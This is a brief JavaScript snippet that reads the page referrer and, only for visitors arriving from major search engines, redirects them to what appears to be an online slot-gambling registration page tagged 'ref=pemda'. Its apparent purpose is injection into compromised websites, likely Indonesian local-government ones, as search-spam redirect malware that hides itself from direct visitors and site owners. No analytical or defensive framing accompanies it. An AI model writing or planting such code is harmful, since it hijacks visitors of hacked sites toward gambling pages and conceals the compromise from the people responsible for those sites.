(function () {
  var r = document.referrer.toLowerCase();
  var bots = ["google.", "bing.", "yahoo.", "duckduckgo.", "yandex."];
  for (var i = 0; i < bots.length; i++) {
    if (r.indexOf(bots[i]) !== -1) {
      window.location.replace("https://gacor-maxwin88.example/daftar?ref=pemda");
      break;
    }
  }
})();
